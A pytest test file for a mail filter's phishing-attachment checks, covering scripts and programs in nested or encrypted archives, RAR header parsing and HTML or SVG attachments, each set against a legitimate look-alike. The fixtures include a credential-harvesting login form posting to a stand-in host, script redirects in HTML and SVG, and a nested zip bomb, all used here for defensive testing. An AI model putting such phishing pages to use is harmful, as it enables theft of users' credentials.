"""Malware and login pages by attachment: archives holding scripts or programs, a zip in a
zip, RAR archives, disk images, encrypted archives whose password the mail gives, and HTML or
SVG files that are login pages or send the reader on. Each kind beside the legitimate mail
it must not be confused with. The messages are our own, in bokmål, English, Danish and
Swedish."""

import io
import zipfile

import pytest

from fornuft.mail.parsing import parse_message
from fornuft.mail.phishing import OrgContext, assess
from fornuft.mail.phishing.attachments import rar_names

from .conftest import make_eml

CONTEXT = OrgContext(domain="nordfjell.no", name="Nordfjell Rådgivning AS", known_domains={"arkitektlaget.no"})
KNOWN_SENDER = dict(sender="Siri Dahl <siri@arkitektlaget.no>",
                    auth="mx.nordfjell.no; spf=pass smtp.mailfrom=arkitektlaget.no; dkim=pass "
                         "header.d=arkitektlaget.no; dmarc=pass header.from=arkitektlaget.no")


def zipped(files: dict[str, bytes], encrypted: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    data = buffer.getvalue()
    if encrypted:  # mark every entry encrypted, as `zip -e` would (local and central headers)
        data = bytearray(data)
        for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = data.find(signature)
            while at != -1:
                data[at + flag_at] |= 0x1
                at = data.find(signature, at + 4)
        data = bytes(data)
    return data


def _vint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def rar5(names: list[str]) -> bytes:
    """A RAR 5 archive's headers for files with these names (stored, empty), as WinRAR writes them."""
    def header(kind: int, fields: bytes) -> bytes:
        body = _vint(kind) + _vint(0) + fields
        return b"\0\0\0\0" + _vint(len(body)) + body
    files = b"".join(header(2, _vint(0) + _vint(0) + _vint(0x20) + _vint(0) + _vint(0)
                            + _vint(len(n.encode())) + n.encode()) for n in names)
    return b"Rar!\x1a\x07\x01\x00" + header(1, _vint(0)) + files + header(5, _vint(0))


def rar4(names: list[str]) -> bytes:
    """A RAR 4 archive's headers for files with these names (stored, empty)."""
    import struct

    main = struct.pack("<HBHH", 0, 0x73, 0, 13) + b"\0" * 6
    files = b"".join(struct.pack("<HBHHIIBIIBBHI", 0, 0x74, 0x8000, 32 + len(n), 0, 0, 2, 0, 0, 29, 0x30, len(n), 0x20)
                     + n.encode() for n in names)
    return b"Rar!\x1a\x07\x00" + main + files + struct.pack("<HBHH", 0, 0x7B, 0x4000, 7)


def verdict_of(**message):
    return assess(parse_message(make_eml(**message)), CONTEXT)


@pytest.mark.parametrize("inner", ["Faktura_0412.js", "scan_kontrakt.vbs", "Dokument.lnk", "ordre.hta",
                                   "tilbud.wsf", "bilag.jse", "bilder.iso", "faktura.img"])
def test_a_script_shortcut_or_disk_image_in_a_zip_is_quarantined(inner):
    verdict = verdict_of(subject="Faktura for november", body="Hei, se vedlagt faktura. Mvh regnskap",
                         attachments=[("Faktura.zip", zipped({inner: b"x"}), "application/zip")])
    assert verdict.verdict == "phishing", verdict.reasons
    assert any(inner in reason for reason in verdict.reasons)


@pytest.mark.parametrize("name", ["Voicemail_0931.vbs", "bestilling.js", "Kontrakt_signert.iso", "disk.vhd"])
def test_a_script_or_disk_image_attached_directly_is_quarantined(name):
    verdict = verdict_of(subject="New voice message", body="You have a new voice message, see attached.",
                         attachments=[(name, b"x", "application/octet-stream")])
    assert verdict.verdict == "phishing", verdict.reasons


def test_a_zip_inside_a_zip_is_opened_and_its_program_found():
    inner = zipped({"Tilbud_2026.js": b"x"})
    verdict = verdict_of(subject="Tilbudsforespørsel", body="Hej, vi beder om tilbud, se vedhæftede fil.",
                         attachments=[("udbud.zip", zipped({"dokumenter.zip": inner}), "application/zip")])
    assert verdict.verdict == "phishing", verdict.reasons
    assert any("dokumenter.zip" in r and "Tilbud_2026.js" in r for r in verdict.reasons)


def test_a_zip_inside_a_zip_with_only_drawings_is_only_a_doubt():
    inner = zipped({"plan_1etg.pdf": b"%PDF", "fasade.png": b"png"})
    verdict = verdict_of(**KNOWN_SENDER, subject="Tegninger", body="Her er tegningene, pakket.",
                         attachments=[("tegninger.zip", zipped({"rev_b.zip": inner}), "application/zip")])
    assert verdict.verdict != "phishing", verdict.reasons


def test_a_program_in_a_zip_stays_suspicious_alone_and_is_quarantined_unauthenticated():
    attachment = [("verktoy.zip", zipped({"oppsett.exe": b"MZ"}), "application/zip")]
    alone = verdict_of(**KNOWN_SENDER, subject="Programmet", body="Her er programmet vi snakket om.",
                       attachments=attachment)
    assert alone.verdict == "suspicious", alone.reasons
    unauthenticated = verdict_of(sender="Support <support@verktoy-hjelp.example>", subject="Oppdatering",
                                 body="Installer oppdateringen i vedlegget.", attachments=attachment,
                                 auth="mx.nordfjell.no; spf=fail; dkim=none; dmarc=fail")
    assert unauthenticated.verdict == "phishing", unauthenticated.reasons


def test_a_zip_of_pdfs_photos_and_drawings_from_a_known_correspondent_stays_clean():
    files = {"Tegning_A101.pdf": b"%PDF", "befaring/IMG_2211.jpg": b"jpg", "situasjonsplan.dwg": b"AC1032",
             "Beskrivelse.docx": b"PK"}
    verdict = verdict_of(**KNOWN_SENDER, subject="Tegninger til byggemøtet",
                         body="Hei! Vedlagt tegninger og bilder fra befaringen. Hilsen Siri",
                         attachments=[("Tegninger_uke49.zip", zipped(files), "application/zip")])
    assert verdict.verdict == "clean", verdict.reasons


@pytest.mark.parametrize("body", ["Fakturaen ligger i vedlegget. Passord: Faktura2026",
                                  "The invoice is attached. Password: 8812",
                                  "Fakturan bifogas. Lösenordet är 4471",
                                  "Fakturaen er vedhæftet. Adgangskode: 5520"])
def test_an_encrypted_archive_whose_password_the_mail_gives_is_quarantined(body):
    attachment = [("Faktura_4471.zip", zipped({"Faktura_4471.exe": b"MZ"}, encrypted=True), "application/zip")]
    verdict = verdict_of(subject="Faktura", body=body, attachments=attachment)
    assert verdict.verdict == "phishing", verdict.reasons
    assert any("password that the mail itself gives" in r for r in verdict.reasons)


def test_encrypted_pay_slips_with_the_password_in_the_mail_are_not_quarantined():
    """Payroll bureaus do send locked PDFs with the code in the same mail: a poor habit, not fraud."""
    attachment = [("lonnsslipp.zip", zipped({"lonnsslipp_nov.pdf": b"%PDF"}, encrypted=True), "application/zip")]
    verdict = verdict_of(**KNOWN_SENDER, subject="Lønnsslipp november",
                         body="Lønnsslippen ligger i vedlegget. Passord: fødselsdatoen din", attachments=attachment)
    assert verdict.verdict != "phishing", verdict.reasons


def test_an_encrypted_archive_without_a_password_in_the_mail_is_only_suspicious():
    attachment = [("kontrakt.zip", zipped({"kontrakt.exe": b"MZ"}, encrypted=True), "application/zip")]
    verdict = verdict_of(**KNOWN_SENDER, subject="Kontrakt", body="Passordet er sendt på SMS.",
                         attachments=attachment)
    assert verdict.verdict == "suspicious", verdict.reasons


def test_rar_archives_are_read_by_their_headers():
    assert rar_names(rar5(["Faktura.pdf", "Faktura.js"])) == (["Faktura.pdf", "Faktura.js"], False)
    assert rar_names(rar4(["bilag.pdf", "bilag.vbs"])) == (["bilag.pdf", "bilag.vbs"], False)
    assert rar_names(b"Rar!\x1a\x07\x01\x00\xff") is None  # cut off: unreadable, no crash
    bad = verdict_of(subject="Order", body="Please see the order attached.",
                     attachments=[("Order_PO-7731.rar", rar5(["Order_PO-7731.js"]), "application/x-rar")])
    assert bad.verdict == "phishing", bad.reasons
    photos = verdict_of(**KNOWN_SENDER, subject="Bilder", body="Bildene fra befaringen.",
                        attachments=[("bilder.rar", rar5(["IMG_01.jpg", "IMG_02.jpg"]), "application/x-rar")])
    assert photos.verdict == "clean", photos.reasons


LOGIN_PAGE = (b"<html><body><h3>Sign in to view the document</h3><form action='https://collect.example/p' "
              b"method='post'><input type='email' name='u'><input type='password' name='p'></form></body></html>")
REDIRECT_PAGE = b"<html><head><script>window.location.href='https://docs-view.example/' + atob('eA==')</script>"
SVG_WITH_SCRIPT = (b"<svg xmlns='http://www.w3.org/2000/svg'><text>Loading</text><script>"
                   b"location.replace('https://inbox-check.example/?e=x')</script></svg>")
PLAIN_SVG = b"<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'><rect width='10' height='10'/></svg>"


@pytest.mark.parametrize("name,data,mime", [("Faktura_1182.html", LOGIN_PAGE, "text/html"),
                                            ("Remittance.shtml", LOGIN_PAGE, "text/html"),
                                            ("Voicemail.svg", SVG_WITH_SCRIPT, "image/svg+xml")])
def test_a_login_page_or_a_scripted_picture_attached_is_quarantined(name, data, mime):
    verdict = verdict_of(subject="Dokument til signering", body="Se vedlegget og logg inn for å åpne.",
                         attachments=[(name, data, mime)])
    assert verdict.verdict == "phishing", verdict.reasons


def test_an_html_page_that_sends_you_on_is_suspicious_and_quarantined_with_another_doubt():
    attachment = [("Dokument.htm", REDIRECT_PAGE, "text/html")]
    alone = verdict_of(**KNOWN_SENDER, subject="Dokument", body="Se vedlagt.", attachments=attachment)
    assert alone.verdict == "suspicious", alone.reasons
    unauthenticated = verdict_of(sender="Dokumentsenter <noreply@doc-senter.example>", subject="Dokument",
                                 body="Se vedlagt.", attachments=attachment,
                                 auth="mx.nordfjell.no; spf=softfail; dkim=none; dmarc=none")
    assert unauthenticated.verdict == "phishing", unauthenticated.reasons


def test_a_plain_logo_picture_and_a_saved_web_receipt_stay_clean():
    logo = verdict_of(**KNOWN_SENDER, subject="Ny logo", body="Her er logoen som SVG.",
                      attachments=[("logo.svg", PLAIN_SVG, "image/svg+xml")])
    assert logo.verdict == "clean", logo.reasons
    receipt = verdict_of(**KNOWN_SENDER, subject="Kvittering", body="Kvitteringen ligger ved.",
                         attachments=[("kvittering.html", b"<html><table><tr><td>Sum</td><td>1 250,00</td></tr>"
                                                          b"</table></html>", "text/html")])
    assert receipt.verdict == "clean", receipt.reasons


def test_a_device_configuration_profile_is_a_risky_attachment():
    """An Apple configuration profile installs certificates, VPNs and mail accounts on a phone."""
    verdict = verdict_of(subject="Oppdater e-post på mobilen", body="Installer profilen i vedlegget.",
                         attachments=[("epost.mobileconfig", b"<?xml version='1.0'?><plist/>",
                                       "application/x-apple-aspen-config")])
    assert verdict.verdict in ("suspicious", "phishing") and "dangerous_attachment" in verdict.codes


def test_many_or_bombed_inner_archives_are_judged_without_unpacking_them():
    """Zips inside a zip are opened only a few at a time and within a size cap; a bomb inside
    one is still found from its directory."""
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.bin", b"\0" * (60 * 1024 * 1024))
    verdict = verdict_of(subject="Bilag", body="Se vedlagt.",
                         attachments=[("bilag.zip", zipped({"bilag_2.zip": bomb.getvalue()}), "application/zip")])
    assert verdict.verdict == "phishing" and any("zip bomb" in r for r in verdict.reasons)
    many = zipped({f"del_{i}.zip": zipped({"notat.txt": b"x"}) for i in range(40)})
    crowded = verdict_of(**KNOWN_SENDER, subject="Arkiv", body="Arkivet.", attachments=[("arkiv.zip", many,
                                                                                      "application/zip")])
    assert crowded.verdict != "phishing", crowded.reasons
